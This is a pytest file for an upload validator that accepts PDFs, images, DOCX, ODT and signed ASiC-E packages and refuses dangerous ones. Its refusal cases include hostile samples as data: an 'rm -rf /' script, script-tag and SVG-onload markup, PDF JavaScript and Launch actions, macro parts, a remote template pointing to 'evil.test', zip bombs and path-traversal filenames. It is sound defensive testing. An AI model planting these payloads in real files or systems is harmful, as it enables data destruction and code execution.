"""Uploads: good files of every kind, and everything that must not come in."""

import io
import zipfile

import pytest
from PIL import Image

from ..tools.attachments import BadUpload, check_upload, clean_name

MB = 1024 * 1024
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"
ODT = "application/vnd.oasis.opendocument.text"
ASICE = "application/vnd.etsi.asic-e+zip"


def picture(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, kind)
    return buffer.getvalue()


def package(files: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return buffer.getvalue()


DOCX_PARTS = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
ODT_PARTS = {"mimetype": ODT, "content.xml": "<office:document-content/>"}
SIGNED = {"mimetype": ASICE, "slēdziens.pdf": PDF, "META-INF/signatures0.xml": "<XAdESSignatures/>"}
REMOTE = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>'  # fmt: skip


def verdict(name: str, content: bytes, max_bytes: int = MB) -> str:
    try:
        return check_upload(name, content, max_bytes).kind
    except BadUpload as bad:
        return bad.reason


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("atzinums.pdf", PDF, "pdf"),
        ("ATZINUMS.PDF", PDF, "pdf"),
        ("foto.jpg", picture("JPEG"), "jpg"),
        ("foto.JPEG", picture("JPEG"), "jpg"),
        ("foto.png", picture("PNG"), "png"),
        ("izraksts.docx", package(DOCX_PARTS), "docx"),
        ("izraksts.odt", package(ODT_PARTS), "odt"),
        ("parakstīts.asice", package(SIGNED), "asice"),
        ("parakstīts.edoc", package(SIGNED), "asice"),
    ],
)
def test_accepted(name, content, kind):
    assert verdict(name, content) == kind


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("a.pdf", b"", "empty"),
        ("a.pdf", PDF + b" " * MB, "too_large"),
        ("a.exe", b"MZ\x90\0", "executable"),
        ("a.pdf", b"MZ\x90\0", "executable"),
        ("a.pdf", b"\x7fELF\2", "executable"),
        ("a.sh", b"#!/bin/sh\nrm -rf /\n", "executable"),
        ("a.html", b"<!DOCTYPE html><html></html>", "markup"),
        ("a.png", b"\xef\xbb\xbf  <script>alert(1)</script>", "markup"),
        ("a.svg", b'<?xml version="1.0"?><svg onload="x()"/>', "markup"),
        ("a.jpg", "<svg xmlns='x'/>".encode("utf-16"), "markup"),
        ("a.js", b"alert(1)", "kind"),
        ("a.txt", "teksts 🦽".encode(), "kind"),
        ("a.pdf.exe", PDF, "extension"),
        ("a.png", PDF, "extension"),
        ("a.pdf", picture("PNG"), "extension"),
        ("a.docx", package(ODT_PARTS), "extension"),
        ("a.pdf", PDF[:20], "damaged"),
        ("a.jpg", b"\xff\xd8\xff\xe0junk", "damaged"),
        ("a.png", picture("PNG")[:40], "damaged"),
        ("a.docx", package(DOCX_PARTS)[:60], "damaged"),
        ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /JavaScript (x)"), "active"),
        ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /J#61vaScript (x)"), "active"),
        ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /Launch (x)"), "active"),
        ("a.zip", package({"a.pdf": PDF}), "archive"),
        ("a.docx", package({"a.exe": b"MZ"}), "archive"),
        ("a.docx", package(DOCX_PARTS | {"word/vbaProject.bin": b"x"}), "active"),
        ("a.docx", package(DOCX_PARTS | {"word/embeddings/oleObject1.bin": b"x"}), "active"),
        ("a.docx", package(DOCX_PARTS | {"[Content_Types].xml": "document.macroEnabled.main+xml"}), "active"),
        ("a.docx", package(DOCX_PARTS | {"word/_rels/settings.xml.rels": REMOTE}), "active"),
        ("a.odt", package(ODT_PARTS | {"Basic/Standard/Module1.xml": "x"}), "active"),
        ("a.odt", package(ODT_PARTS | {"Scripts/python/x.py": "x"}), "active"),
        ("a.docx", package(DOCX_PARTS | {"word/media/a.xml": b"0" * 11 * MB}), "bomb"),
        ("a.docx", package(DOCX_PARTS | {f"word/{n}.xml": "" for n in range(2001)}), "bomb"),
        ("a.asice", package(SIGNED | {"virus.exe": b"MZ"}), "content"),
        ("a.asice", package(SIGNED | {"lapa.html": b"<html>"}), "content"),
        ("a.asice", package(SIGNED | {"iekšējs.asice": package(SIGNED)}), "content"),
        ("a.asice", package({"mimetype": ASICE, "a.pdf": PDF}), "damaged"),
        ("a.asice", package({"mimetype": ASICE, "META-INF/signatures0.xml": "x"}), "damaged"),
        ("pdf", PDF, "name"),
        (".pdf", PDF, "name"),
        ("", PDF, "name"),
    ],
)
def test_refused(name, content, reason):
    assert verdict(name, content) == reason


def test_an_encrypted_package_is_refused():
    content = bytearray(package(ODT_PARTS))
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = content.find(mark) + (6 if mark == b"PK\x03\x04" else 8)
        content[at] |= 1
    assert verdict("a.odt", bytes(content)) == "damaged"


def test_a_picture_of_absurd_size_is_refused():
    header = bytearray(picture("PNG"))
    header[16:24] = (100_000).to_bytes(4, "big") * 2
    assert verdict("a.png", bytes(header)) in ("bomb", "damaged")


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("C:\\Users\\Anna\\atzinums.pdf", "atzinums.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("a\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe", "afdp.exe"),
        ("slēdziens\0\n <b>.pdf", "slēdziens _b_.pdf"),
        ("  Bērziņš   Jānis .pdf", "Bērziņš Jānis.pdf"),
        ("z" * 300 + ".pdf", "z" * 116 + ".pdf"),
    ],
)
def test_names(name, clean):
    assert clean_name(name) == clean
